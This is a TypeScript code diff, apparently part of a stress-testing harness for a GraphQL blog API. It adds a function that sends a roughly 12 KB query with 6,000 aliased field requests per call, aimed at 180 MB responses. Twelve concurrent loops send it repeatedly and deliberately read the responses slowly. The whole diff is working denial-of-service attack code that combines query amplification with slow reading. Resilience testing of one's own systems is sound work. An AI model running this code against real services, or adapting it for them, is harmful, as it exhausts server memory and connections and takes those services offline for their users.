@@ -1,3 +1,4 @@
+import { request } from 'node:http'
 import { setTimeout as pause } from 'node:timers/promises'
 import { WebSocket } from 'ws'
 
@@ -67,6 +68,42 @@ export async function heavyFilters(url: string, key: string, signal: AbortSignal
     while (!signal.aborted) for (const body of bodies) await send(body)
   }
   await Promise.all(repeated(3, [sixThousandConditions, withinLimits]).map(keepSending))
+  return attack
+}
+
+const names = Array.from({ length: 600 }, (_, index) => `n${index}: content`).join(' ')
+const calls = Array.from({ length: 10 }, (_, index) => `r${index}: listBlogs(limit: 6) { items { ...Six } }`)
+
+/** 12 KB that ask for the text of each post 6,000 times. */
+const manyNames = JSON.stringify({ query: `{ ${calls.join(' ')} } fragment Six on Blog { ${names} }` })
+
+/** H1b: twelve programs that ask for answers of 180 MB and do not read them. */
+export async function unreadAnswers(url: string, key: string, signal: AbortSignal): Promise<Attack> {
+  const { note, ...attack } = tally()
+  const ask = () =>
+    new Promise<void>((resolve) => {
+      const asking = request(`${url}/graphql`, {
+        method: 'POST',
+        headers: headersOf(key),
+        agent: false,
+        signal,
+      })
+      asking.on('response', (answer) => {
+        note(answer.statusCode ?? 0)
+        // What fits into the network is no attack.
+        answer.once('end', resolve).once('error', resolve)
+        setTimeout(() => answer.resume(), 1_000)
+      })
+      asking.on('error', ({ message }) => {
+        if (!signal.aborted) note(message)
+        resolve()
+      })
+      asking.end(manyNames)
+    })
+  const keepAsking = async () => {
+    while (!signal.aborted) await ask()
+  }
+  await Promise.all(repeated(12, keepAsking).map((program) => program()))
   return attack
 }
 
